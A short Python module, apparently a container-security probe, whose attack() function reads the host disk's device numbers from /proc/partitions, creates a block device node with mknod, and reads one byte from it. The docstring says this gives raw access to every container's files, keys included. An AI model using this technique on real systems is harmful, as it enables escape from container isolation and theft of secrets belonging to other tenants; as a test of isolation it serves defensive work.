"""mknod of the node's disk, and read from it.

Every file of every container, the keys included, with no file system in between.
"""

import os
from pathlib import Path


def attack() -> None:
    """Make it and read one byte."""
    major, minor = Path("/proc/partitions").read_text().splitlines()[2].split()[:2]
    path = Path("/tmp/disk")
    os.mknod(path, 0o600 | 0o060000, os.makedev(int(major), int(minor)))
    try:
        os.read(os.open(path, os.O_RDONLY), 1)
    finally:
        path.unlink()
